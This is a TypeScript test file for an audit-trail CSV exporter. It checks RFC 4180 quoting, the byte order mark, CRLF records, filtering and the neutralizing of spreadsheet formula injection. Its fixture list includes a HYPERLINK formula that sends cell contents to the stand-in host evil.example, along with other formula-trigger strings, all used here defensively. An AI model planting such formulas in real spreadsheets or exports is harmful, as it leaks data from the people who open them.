/**
 * The CSV export of the audit-trail view: RFC 4180 quoting, UTF-8 with a byte order mark (Excel),
 * CRLF line ends, a header row and nothing else (no comment lines), newest first like the viewer.
 *
 * Formula injection: a spreadsheet runs a cell that starts with = + - @ (or a tab / CR) as a
 * formula. Such cells get a leading apostrophe, which spreadsheets display as text, so a reason
 * typed as `=HYPERLINK(...)` cannot act when an inspector opens the file. This is done silently
 * (the file carries no note); the stored audit rows are unchanged, and JSON values beginning with
 * "-" (a negative number) are neutralized the same way.
 */
import Database from 'better-sqlite3-multiple-ciphers';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { applyMigrations, loadMigrations } from '../../db/migrate';
import {
  AUDIT_EXPORT_ROW_LIMIT,
  auditCsvBytes,
  CSV_COLUMNS,
  csvField,
  describeFilter,
  exportAuditCsv,
  readExportRows,
  type ExportContext,
} from '../../electron/core/audit/audit-export';
import { AuditQuery } from '../../electron/core/audit/audit-query';

const NOW = '2026-11-02T08:00:00.000Z';
const CONTEXT: ExportContext = {
  terminalName: 'WS-LINE-03',
  exportedBy: 'Zoë Ångström',
  exportedAtUtc: '2026-11-02T08:15:30.250Z',
  applicationVersion: '0.1.0',
  timeZone: 'Europe/Berlin',
};

/** A strict RFC 4180 reader: fields, quotes doubled inside quoted fields, CRLF between records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else {
          if (i >= text.length) throw new Error('unterminated quoted field');
          field += text[i++];
        }
      }
    } else if (text[i] === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (text[i] === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      if (text[i] === '"' || text[i] === '\n' || text[i] === '\r')
        throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
      field += text[i++];
    }
  }
  if (field !== '' || record.length > 0) throw new Error('last record not terminated by CRLF');
  return records;
}

const NASTY = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+2',
  '-3+4',
  '@SUM(A1:A2)',
  '\t=tabbed',
  '\r=carriage',
  'comma, inside',
  'a "quoted" word',
  'two\nlines',
  'crlf\r\nlines',
  'Müller · ± 0.5 °C · 5 µg · 日本語',
  ' leading space',
];

let sqlite: Database.Database;
let query: AuditQuery;

beforeAll(() => {
  sqlite = new Database(':memory:');
  applyMigrations(sqlite, loadMigrations(), NOW);
  sqlite
    .prepare(
      `INSERT INTO users (id, username, full_name, password_hash, roles, status, must_change_password, created_at_utc)
       VALUES ('u-zoe', 'zoe', 'Zoë Ångström', 'x', '[]', 'active', 0, ?)`,
    )
    .run(NOW);
  sqlite
    .prepare(
      `INSERT INTO terminals (id, name, location, public_key_pem, fingerprint, created_at_utc)
       VALUES ('t-1', 'WS-LINE-03', 'Granulation', 'pem', 'fp', ?)`,
    )
    .run(NOW);
  const insert = sqlite.prepare(
    `INSERT INTO audit_trail (seq, at_utc, user_id, user_name, terminal_id, action, entity_type, entity_id, old_value, new_value, reason, prev_hash, hash)
     VALUES (?, ?, ?, ?, ?, 'batch.value-recorded', 'batch', ?, ?, ?, ?, ?, ?)`,
  );
  NASTY.forEach((text, i) => {
    const seq = i + 1;
    insert.run(
      seq,
      new Date(Date.parse(NOW) + seq * 1000).toISOString(),
      seq % 3 === 0 ? null : 'u-zoe',
      seq % 3 === 0 ? null : 'Zoë Ångström',
      seq % 2 === 0 ? 't-1' : 't-unknown',
      `B-${seq}`,
      seq % 2 === 0 ? JSON.stringify({ net: -0.25 }) : null,
      JSON.stringify({ note: text }),
      text,
      '0'.repeat(64),
      seq.toString(16).padStart(64, 'a'),
    );
  });
  query = new AuditQuery(sqlite);
});

afterAll(() => sqlite.close());

describe('csvField', () => {
  it('quotes only what RFC 4180 requires and doubles quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('comma, inside')).toBe('"comma, inside"');
    expect(csvField('a "quoted" word')).toBe('"a ""quoted"" word"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField(null)).toBe('');
    expect(csvField('')).toBe('');
    expect(csvField(42)).toBe('42');
  });

  it('neutralizes formulas with a leading apostrophe (silently; documented in this file)', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+1')).toBe("'+1");
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('@cmd')).toBe("'@cmd");
    expect(csvField('\tx')).toBe("'\tx");
    expect(csvField('\r=x')).toBe('"\'\r=x"');
    expect(csvField('=A1,B1')).toBe('"\'=A1,B1"');
    expect(csvField('1=1')).toBe('1=1');
    expect(csvField("'already")).toBe("'already");
  });
});

describe('CSV export', () => {
  it('is UTF-8 with BOM, a header row, CRLF records, every row newest first, cells exactly as stored', () => {
    const file = exportAuditCsv(query, {}, CONTEXT);
    expect(file.fileName).toBe('audit-trail-20261102T081530Z.csv');
    expect(file.mediaType).toBe('text/csv');
    expect(file).toMatchObject({
      rowCount: NASTY.length,
      truncated: false,
      rowLimit: AUDIT_EXPORT_ROW_LIMIT,
    });
    const bytes = Buffer.from(file.base64, 'base64');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(Buffer.from(text, 'utf8').equals(bytes.subarray(3))).toBe(true); // valid UTF-8
    expect(
      text.startsWith(
        'Seq,Time (UTC),User,Printed name,Terminal,Action,Entity type,Entity ID,Old value,New value,Reason,Hash\r\n',
      ),
    ).toBe(true);
    expect(text.startsWith('#')).toBe(false);
    const records = parseCsv(text);
    expect(records[0]).toEqual([...CSV_COLUMNS]);
    expect(records).toHaveLength(NASTY.length + 1);
    const body = records.slice(1);
    expect(body.map((record) => Number(record[0]))).toEqual(NASTY.map((_, i) => NASTY.length - i));
    for (const record of body) {
      expect(record).toHaveLength(CSV_COLUMNS.length);
      const seq = Number(record[0]);
      const stored = NASTY[seq - 1]!;
      const shown = /^[=+\-@\t\r]/.test(stored) ? `'${stored}` : stored;
      expect(record[10], `reason of ${seq}`).toBe(shown);
      expect(record[1]).toBe(new Date(Date.parse(NOW) + seq * 1000).toISOString());
      expect(record[2]).toBe(seq % 3 === 0 ? '' : 'zoe'); // username
      expect(record[3]).toBe(seq % 3 === 0 ? '' : 'Zoë Ångström'); // printed name at the time
      expect(record[4]).toBe(seq % 2 === 0 ? 'WS-LINE-03' : 't-unknown'); // terminal name, else its id
      expect(record[5]).toBe('batch.value-recorded');
      expect(record.slice(6, 8)).toEqual(['batch', `B-${seq}`]);
      expect(record[8]).toBe(seq % 2 === 0 ? '{"net":-0.25}' : '');
      expect(record[9]).toBe(JSON.stringify({ note: stored }));
      expect(record[11]).toBe(seq.toString(16).padStart(64, 'a'));
    }
    // Every line break inside a cell is inside quotes: the file has exactly one CRLF per record
    // outside quoted fields, which the strict reader above has checked.
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('is the header row alone when nothing matches; a bare negative JSON number is neutralized too', () => {
    expect(auditCsvBytes([]).toString('utf8')).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
    expect(csvField('-0.25')).toBe("'-0.25");
  });

  it('exports only the filtered rows, and says when the view held more than the limit', () => {
    const zoe = exportAuditCsv(query, { userId: 'u-zoe' }, CONTEXT);
    expect(zoe.rowCount).toBe(NASTY.filter((_, i) => (i + 1) % 3 !== 0).length);
    const limited = readExportRows(query, {}, 5);
    expect(limited.truncated).toBe(true);
    expect(limited.rows.map((row) => row.seq)).toEqual([12, 11, 10, 9, 8]);
    expect(limited.headSeq).toBe(NASTY.length);
    expect(readExportRows(query, {}, NASTY.length).truncated).toBe(false);
    expect(readExportRows(query, { text: 'nothing-like-this' }, 5)).toMatchObject({
      rows: [],
      truncated: false,
    });
  });

  it('describes the filter in words for the PDF header', () => {
    expect(describeFilter({}, query)).toEqual(['No filter: the whole audit trail']);
    expect(
      describeFilter(
        {
          entityType: 'batch',
          entityId: 'B-1',
          userId: 'u-zoe',
          action: 'x.y',
          fromUtc: '2026-01-01T00:00:00Z',
          text: 'lot',
        },
        query,
      ),
    ).toEqual([
      'Entity: batch B-1',
      'User: Zoë Ångström (zoe)',
      'Action: x.y',
      'Time (UTC, inclusive): 2026-01-01T00:00:00Z to now',
      'Text contains words starting with: “lot”',
    ]);
  });
});
